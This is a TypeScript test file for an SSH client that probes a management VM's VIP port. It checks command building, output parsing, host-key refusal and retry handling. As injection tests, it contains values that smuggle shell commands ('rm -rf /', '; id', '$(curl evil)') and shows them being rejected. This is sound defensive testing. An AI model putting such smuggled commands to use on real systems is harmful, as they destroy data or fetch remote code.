import { test } from 'node:test';
import assert from 'node:assert/strict';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { createServer } from 'node:net';
import type { AddressInfo, Socket } from 'node:net';
import { ed25519KeyPair } from '../../sim/hosts/mgmt-vm.js';
import { join } from 'node:path';
import { isCapiGateError } from '../core/errors.js';
import { blockFor } from '../../test/helpers.js';
import { readFip } from './env-file.js';
import { createMgmtVmClient, interpretProbe, parseHostPort, probeCommand } from './ssh.js';

test('the probe is the runbook command, with the failing status kept', () => {
  assert.equal(probeCommand('10.12.4.50', 5000, 6), `timeout 6 bash -c 'exec 3<>/dev/tcp/10.12.4.50/5000' && echo VIP-OK || echo "VIP-FAIL rc=$?"`);
  assert.throws(() => probeCommand("10.12.4.50'; rm -rf /; '", 5000, 6), TypeError);
  assert.throws(() => parseHostPort('10.12.4.50:5000; id'), (e: unknown) => isCapiGateError(e, 'CAPI_GATE_PRECONDITION'));
  assert.deepEqual(parseHostPort('10.12.4.50:5000'), { host: '10.12.4.50', port: 5000 });
});

test('probe output: VIP-OK; VIP-FAIL with bash\'s reason; a timeout (rc=124) named as such', () => {
  assert.deepEqual(interpretProbe('VIP-OK\n', '', 6), { outcome: 'VIP-OK', error: undefined });
  assert.deepEqual(interpretProbe('VIP-FAIL rc=1\n', 'bash: connect: Connection refused\nbash: line 1: /dev/tcp/10.12.4.50/5000: Connection refused\n', 6), { outcome: 'VIP-FAIL', error: '/dev/tcp/10.12.4.50/5000: Connection refused' });
  assert.deepEqual(interpretProbe('VIP-FAIL rc=124\n', '', 6), { outcome: 'VIP-FAIL', error: 'timed out after 6s' });
  assert.deepEqual(interpretProbe('VIP-FAIL\n', '', 6), { outcome: 'VIP-FAIL', error: 'connect failed' });
  assert.equal(interpretProbe('', 'bash: command not found', 6), undefined);
});

test('DOCFIX-038: a missing env file or variable is a precondition with the hint, before any connection', async () => {
  const dir = mkdtempSync(join(tmpdir(), 'capi-gate-ssh-'));
  try {
    assert.throws(() => readFip(join(dir, 'nope.env'), 'MGMT_FIP'), (e: unknown) => isCapiGateError(e, 'CAPI_GATE_PRECONDITION') && /never hardcode/i.test(e.hint ?? ''));
    writeFileSync(join(dir, 'a.env'), 'OTHER=1\n');
    assert.throws(() => readFip(join(dir, 'a.env'), 'MGMT_FIP'), /does not set MGMT_FIP/);
    writeFileSync(join(dir, 'b.env'), 'MGMT_FIP=$(curl evil)\n');
    assert.throws(() => readFip(join(dir, 'b.env'), 'MGMT_FIP'), /not an address/);
    // An unknown host is refused before connecting (no trust on first use).
    writeFileSync(join(dir, 'ok.env'), 'export MGMT_FIP=127.0.0.9\n');
    writeFileSync(join(dir, 'known_hosts'), '# nothing for it\n');
    const c = createMgmtVmClient({
      settings: { user: 'ubuntu', fipEnvFile: join(dir, 'ok.env'), fipVariable: 'MGMT_FIP', sshPort: 22, sshKey: join(dir, 'key'), knownHosts: join(dir, 'known_hosts'), probe: '10.12.4.50:5000' },
      env: {}, probeTimeoutMs: 1000, connectTimeoutMs: 1000,
    });
    await assert.rejects(c.probeVip(new AbortController().signal), (e: unknown) => isCapiGateError(e, 'CAPI_GATE_PRECONDITION') && /not in .*known_hosts: refusing/.test(e.message) && /ssh-keyscan/.test(e.hint ?? ''));
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
});

/** A client for a mgmt VM at 127.0.0.9:port (a fresh host key in known_hosts, a user key, the env file). */
function clientFor(dir: string, port: number, connectTimeoutMs: number) {
  const host = ed25519KeyPair();
  const user = ed25519KeyPair();
  writeFileSync(join(dir, 'ok.env'), 'export MGMT_FIP=127.0.0.9\n');
  writeFileSync(join(dir, 'known_hosts'), `[127.0.0.9]:${port} ${host.public}\n`);
  writeFileSync(join(dir, 'key'), user.private, { mode: 0o600 });
  return createMgmtVmClient({
    settings: { user: 'ubuntu', fipEnvFile: join(dir, 'ok.env'), fipVariable: 'MGMT_FIP', sshPort: port, sshKey: join(dir, 'key'), knownHosts: join(dir, 'known_hosts'), probe: '10.12.4.50:5000' },
    env: {}, probeTimeoutMs: 1000, connectTimeoutMs,
  });
}

test('a peer that accepts TCP but never speaks SSH: one clear error, and ssh2\'s later error events do not crash the process', async () => {
  const dir = mkdtempSync(join(tmpdir(), 'capi-gate-ssh-'));
  const sockets: Socket[] = [];
  // Accepts, says nothing, and drops the connection a little after the client's ready timeout.
  const server = createServer((sock) => {
    sockets.push(sock);
    sock.on('error', () => undefined);
    setTimeout(() => sock.destroy(), 400);
  });
  await new Promise<void>((r) => server.listen(0, '127.0.0.9', r));
  const port = (server.address() as AddressInfo).port;
  const uncaught: unknown[] = [];
  const onUncaught = (e: unknown) => uncaught.push(e);
  process.on('uncaughtException', onUncaught);
  try {
    const c = clientFor(dir, port, 200);
    await assert.rejects(c.probeVip(new AbortController().signal), (e: unknown) => e instanceof Error && /127\.0\.0\.9/.test(e.message));
    await new Promise((r) => setTimeout(r, 800)); // past the server's drop: ssh2 may emit again
    assert.deepEqual(uncaught, []);
  } finally {
    process.off('uncaughtException', onUncaught);
    for (const s of sockets) s.destroy();
    server.close();
    rmSync(dir, { recursive: true, force: true });
  }
});

test('a handshake that times out while this process stalls is retried once; twice, the error says inconclusive and why', async () => {
  const dir = mkdtempSync(join(tmpdir(), 'capi-gate-ssh-'));
  const sockets: Socket[] = [];
  // Says nothing, and this (same) process stalls for most of the client's ready timeout.
  const server = createServer((sock) => {
    sockets.push(sock);
    sock.on('error', () => undefined);
    setTimeout(() => blockFor(1300), 20);
  });
  await new Promise<void>((r) => server.listen(0, '127.0.0.9', r));
  const port = (server.address() as AddressInfo).port;
  try {
    const c = clientFor(dir, port, 1500);
    await assert.rejects(c.probeVip(new AbortController().signal), (e: unknown) =>
      isCapiGateError(e, 'CAPI_GATE_TRANSPORT') && /^inconclusive: SSH to ubuntu@\[127\.0\.0\.9\]:\d+ failed: Timed out.*twice, while this machine stalled \d+ms and \d+ms of the 1500ms deadline/.test(e.message) && /too busy/.test(e.hint ?? ''));
    assert.equal(sockets.length, 2, 'one retry');
  } finally {
    for (const s of sockets) s.destroy();
    server.close();
    rmSync(dir, { recursive: true, force: true });
  }
});

test('a connection dropped before the SSH handshake (sshd MaxStartups) is tried again, a jittered pause apart; then one error that says so', async () => {
  const dir = mkdtempSync(join(tmpdir(), 'capi-gate-ssh-'));
  let accepted = 0;
  const server = createServer((sock) => {
    accepted++;
    sock.on('error', () => undefined);
    sock.destroy(); // as sshd past MaxStartups: closed before its identification line
  });
  await new Promise<void>((r) => server.listen(0, '127.0.0.9', r));
  const port = (server.address() as AddressInfo).port;
  try {
    const c = clientFor(dir, port, 2000);
    const t0 = Date.now();
    await assert.rejects(c.probeVip(new AbortController().signal), (e: unknown) =>
      isCapiGateError(e, 'CAPI_GATE_TRANSPORT') && /\(4 tries: the VM's sshd drops the connection before the SSH handshake\)/.test(e.message) && /MaxStartups/.test(e.hint ?? '') && e.playbook === 'oom-manual-start');
    assert.equal(accepted, 4, 'three more tries');
    assert.ok(Date.now() - t0 >= 0.5 * (400 + 800 + 1600), 'paused between tries');
  } finally {
    server.close();
    rmSync(dir, { recursive: true, force: true });
  }
});
